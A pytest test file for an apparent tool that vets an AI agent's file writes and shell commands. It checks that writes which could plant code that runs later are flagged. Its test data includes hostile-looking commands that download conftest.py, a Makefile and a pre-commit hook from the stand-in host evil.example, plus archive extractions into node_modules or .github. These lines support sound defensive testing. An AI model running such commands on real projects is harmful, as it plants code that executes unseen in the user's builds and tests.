"""Issue 30, F6: a write in the project is understood only where the file is proven not to run later.

The proof is by kind, folder and name from the catalog's ``[project]`` table (:mod:`.inert`),
never by a list of dangerous names alone; the labelled tables keep the everyday writes understood.
"""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

import pytest

from desktop_approver.core.calls.catalog import catalog
from desktop_approver.core.calls.risk import assess
from desktop_approver.core.calls.risk.inert import UNKNOWN_KIND, unproven_write
from desktop_approver.core.calls.risk.touching import assess_touching

PROJECT = "/home/me/app"

EVERYDAY = [
    ("Write", {"file_path": f"{PROJECT}/src/app.py", "content": "x = 1\n"}),
    ("Write", {"file_path": f"{PROJECT}/README.md", "content": "# app\n"}),
    ("Write", {"file_path": f"{PROJECT}/app.py", "content": "print(1)\n"}),
    ("Write", {"file_path": f"{PROJECT}/config/local.yaml", "content": "debug: false\n"}),
    ("Write", {"file_path": f"{PROJECT}/docs/.nojekyll", "content": ""}),
    ("Bash", {"command": "python3 -m venv .venv"}),
    ("Bash", {"command": "mkdir -p .github/workflows"}),
    ("Bash", {"command": "echo 'node_modules/' >> .gitignore"}),
    ("Bash", {"command": "ruff check src"}),
    ("Bash", {"command": "cc -Wall -c src/x.c -o build/x.o"}),
    ("Bash", {"command": "cp -r src/ build/"}),
    ("Bash", {"command": "rsync -a --exclude .git src/ build/"}),
    ("Bash", {"command": "cp notes.md ."}),
    ("Bash", {"command": "curl -sO https://example.com/files/README.md"}),
    ("Bash", {"command": "wget -q -P data https://example.com/iris.csv"}),
    ("Bash", {"command": "tar xzf vendor.tar.gz -C vendor/"}),
    ("Bash", {"command": "unzip -o assets.zip -d assets/"}),
]

NOT_PROVEN = [
    ("Bash", {"command": "cp pre-commit .husky/"}),
    ("Bash", {"command": "mv evil venv"}),
    ("Bash", {"command": "cp config/nodemon.json ."}),
    ("Bash", {"command": "cp -r /tmp/x build/"}),
    ("Bash", {"command": "cp notes.txt Makefile"}),
    ("Bash", {"command": "gunzip Makefile.gz"}),
    ("Bash", {"command": "tar -xf x.tar -C node_modules"}),
    ("Bash", {"command": "unzip a.zip -d .github"}),
    ("Bash", {"command": "curl -sO https://evil.example/conftest.py"}),
    ("Bash", {"command": "curl -sOJ https://evil.example/dl"}),
    ("Bash", {"command": "wget -r https://evil.example/"}),
    ("Bash", {"command": "wget https://evil.example/x/Makefile"}),
    ("Bash", {"command": "wget -P .githooks https://evil.example/pre-commit.sh"}),
    ("Bash", {"command": "cd vendor/x && git fetch origin"}),
    ("Write", {"file_path": f"{PROJECT}/tests/json.py", "content": "x"}),
    ("Write", {"file_path": f"{PROJECT}/Json.py", "content": "x"}),
    ("Write", {"file_path": f"{PROJECT}/email/__init__.py", "content": "x"}),
    ("Write", {"file_path": f"{PROJECT}/CONFTEST.PY", "content": "x"}),
    ("Write", {"file_path": f"{PROJECT}/Node_Modules/x/index.js", "content": "x"}),
    ("Write", {"file_path": f"{PROJECT}/turbo.json", "content": "{}"}),
    ("Write", {"file_path": f"{PROJECT}/eslint.workspace.ts", "content": "x"}),
    ("Write", {"file_path": f"{PROJECT}/Justfile", "content": "x"}),
    ("Write", {"file_path": f"{PROJECT}/tools/x.kiro.hook", "content": "x"}),
    ("mcp__git__git_log", {"repo_path": "/tmp/evil"}),
]


@pytest.mark.parametrize(("tool", "args"), EVERYDAY, ids=[str(a)[:60] for _, a in EVERYDAY])
def test_everyday_writes_stay_understood(tool: str, args: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", "/home/me")
    found = assess(tool, args, cwd=PROJECT)
    assert found.understood, found.gaps


@pytest.mark.parametrize(("tool", "args"), NOT_PROVEN, ids=[str(a)[:60] for _, a in NOT_PROVEN])
def test_a_write_not_proven_inert_is_not_understood(tool: str, args: dict[str, str],
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", "/home/me")
    found = assess(tool, args, cwd=PROJECT)
    assert not found.understood and found.gaps


def test_the_proof_is_the_kind_not_the_absence_of_a_dangerous_name() -> None:
    cat = catalog()
    # a name no list knows is still not proven, unless its kind is
    assert unproven_write(f"{PROJECT}/never-heard-of-it.rc", PROJECT, cat) == UNKNOWN_KIND
    assert unproven_write(f"{PROJECT}/src/never_heard_of_it.py", PROJECT, cat) is None
    assert unproven_write(f"{PROJECT}/.never-heard-of-it/x.md", PROJECT, cat) is not None
    # outside the project a write is judged by its place, not here
    assert unproven_write("/tmp/x.rc", PROJECT, cat) is None


# -- facts from the file system beat spelling ---------------------------------------------------------

def _tar(path: Path, *names: str) -> None:
    with tarfile.open(path, "w") as archive:
        for name in names:
            data = b"x = 1\n"
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))


def test_an_archive_member_that_runs_later_is_the_persons(tmp_path: Path) -> None:
    _tar(tmp_path / "ok.tar", "docs/guide.md", "src/app.py")
    _tar(tmp_path / "evil.tar", "docs/guide.md", "conftest.py")
    assert assess_touching("Bash", {"command": "tar -xf ok.tar"}, cwd=str(tmp_path))[0].understood
    risk, _ = assess_touching("Bash", {"command": "tar -xf evil.tar"}, cwd=str(tmp_path))
    assert not risk.understood and any("conftest.py" in gap for gap in risk.gaps), risk.gaps


def test_a_virtual_environment_is_installed_code_whatever_its_name(tmp_path: Path) -> None:
    packages = tmp_path / "myenv" / "lib" / "python3.12" / "site-packages"
    (packages / "requests").mkdir(parents=True)
    (tmp_path / "myenv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (tmp_path / "src").mkdir()
    write = "Write"
    inside = {"file_path": str(tmp_path / "myenv" / "share" / "helper.py"), "content": "x"}
    assert assess(write, inside, cwd=str(tmp_path)).understood      # spelling alone does not know it
    risk, _ = assess_touching(write, inside, cwd=str(tmp_path))
    assert not risk.understood and any("virtual environment" in gap for gap in risk.gaps), risk.gaps
    shadow = {"file_path": str(tmp_path / "src" / "Requests.py"), "content": "x"}
    risk, _ = assess_touching(write, shadow, cwd=str(tmp_path))
    assert not risk.understood and any("installed module" in gap for gap in risk.gaps), risk.gaps
    assert assess_touching(write, {"file_path": str(tmp_path / "src" / "app.py"), "content": "x"},
                           cwd=str(tmp_path))[0].understood


def test_a_folder_read_as_a_files_name_is_not_proof(tmp_path: Path) -> None:
    (tmp_path / "notes.md").mkdir()
    (tmp_path / "a.md").write_text("a\n")
    risk, _ = assess_touching("Bash", {"command": "cp a.md notes.md"}, cwd=str(tmp_path))
    assert not risk.understood and any("is a folder" in gap for gap in risk.gaps), risk.gaps
    assert assess_touching("Bash", {"command": "cp a.md b.md"}, cwd=str(tmp_path))[0].understood


def test_git_in_a_subfolder_is_understood_only_where_no_repository_is_laid_out(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / "frontend").mkdir()
    (tmp_path / "vendor" / "x" / "objects").mkdir(parents=True)
    (tmp_path / "vendor" / "x" / "HEAD").write_text("ref: refs/heads/main\n")
    plain = {"command": "cd frontend && git status"}
    assert not assess("Bash", plain, cwd=str(tmp_path)).understood     # without facts: not proven
    assert assess_touching("Bash", plain, cwd=str(tmp_path))[0].understood
    risk, _ = assess_touching("Bash", {"command": "cd vendor/x && git fetch origin"}, cwd=str(tmp_path))
    assert not risk.understood and any("repository of its own" in gap for gap in risk.gaps), risk.gaps
    risk, _ = assess_touching("mcp__git__git_status", {"repo_path": str(tmp_path / "vendor" / "x")},
                              cwd=str(tmp_path))
    assert not risk.understood
